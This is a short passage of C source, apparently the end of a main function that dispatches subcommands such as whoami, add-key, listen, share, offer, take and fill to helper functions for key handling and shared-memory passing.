	if (strcmp(command, "whoami") == 0)
		return printf("euid=%u\n", geteuid()) < 0;
	if (strcmp(command, "handle") == 0 && argc == 3)
		return show_handle(argv[2]);
	if (strcmp(command, "add-key") == 0 && argc == 3)
		return add_key(argv[2]);
	if (strcmp(command, "listen") == 0 && argc == 3)
		return listen_for_ever(argv + 2);
	if (strcmp(command, "share") == 0 && argc == 3)
		return share_memory(argv + 2);
	if (strcmp(command, "offer") == 0 && argc == 4)
		return offer(argv + 2);
	if (strcmp(command, "take") == 0 && argc == 3)
		return take(argv + 2);
	if (strcmp(command, "fill") == 0)
		return fill(argv);
	return 2;
}
